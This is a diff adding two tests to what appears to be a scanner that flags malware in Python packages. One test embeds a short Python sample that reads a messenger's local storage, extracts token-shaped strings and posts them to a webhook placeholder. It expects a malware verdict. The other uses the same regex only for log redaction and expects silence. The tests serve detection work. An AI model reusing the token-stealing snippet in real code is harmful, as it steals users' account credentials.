@@ -100,3 +100,31 @@ test('a listener behind aliases, a class and a thread is found', async () => {
     { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 9 },
   ]);
 });
+
+test('a search for tokens in the stores of a messenger is malware where something is sent', async () => {
+  const search = python(
+    'import os, re, requests',
+    'def tokens(place):',
+    '    found = []',
+    "    for name in os.listdir(place + '/Local Storage/leveldb'):",
+    "        found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(name).read())",
+    '    requests.post(HOOK, json=found)',
+  );
+
+  expect(await inspect('spyware', wheel({ 'pkg/__init__.py': search }))).toMatchObject([
+    { class: 'malware', score: 10, line: 5 },
+  ]);
+});
+
+test('a filter that hides tokens in logs is silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import re, requests',
+      "PATTERN = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')",
+      'def redact(text): return PATTERN.sub("***", text)',
+      "def ask(): return requests.get('https://api.vendor.invalid/').json()",
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toEqual([]);
+});
